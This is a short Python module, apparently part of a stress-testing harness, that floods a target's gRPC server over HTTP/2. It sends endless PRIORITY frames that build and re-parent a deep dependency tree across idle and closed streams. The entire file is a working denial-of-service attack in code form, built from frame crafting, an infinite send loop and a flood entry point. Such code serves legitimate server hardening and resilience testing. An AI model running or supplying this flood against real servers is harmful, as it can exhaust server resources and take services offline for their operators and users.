"""PRIORITY frames that rebuild a deep tree, on closed and on idle streams."""

import struct

from wire import END_HEADERS, END_STREAM, GET, HEADERS, PREFACE, PRIORITY, flood_connection, frame, settings


def priority(stream, parent):
    return frame(PRIORITY, 0, stream, struct.pack(">IB", parent | 1 << 31, 255))


def chunks():
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, GET)
    idle = [3 + 2 * number for number in range(90)]
    deep = b"".join(priority(stream, stream - 2) for stream in idle)
    turned = b"".join(priority(stream, stream + 2) for stream in idle[:-1])
    while True:
        yield (priority(1, 0) * 100 + deep + turned) * 4


def flood(target, until):
    return flood_connection(target.grpc, until, PREFACE + settings(), chunks)
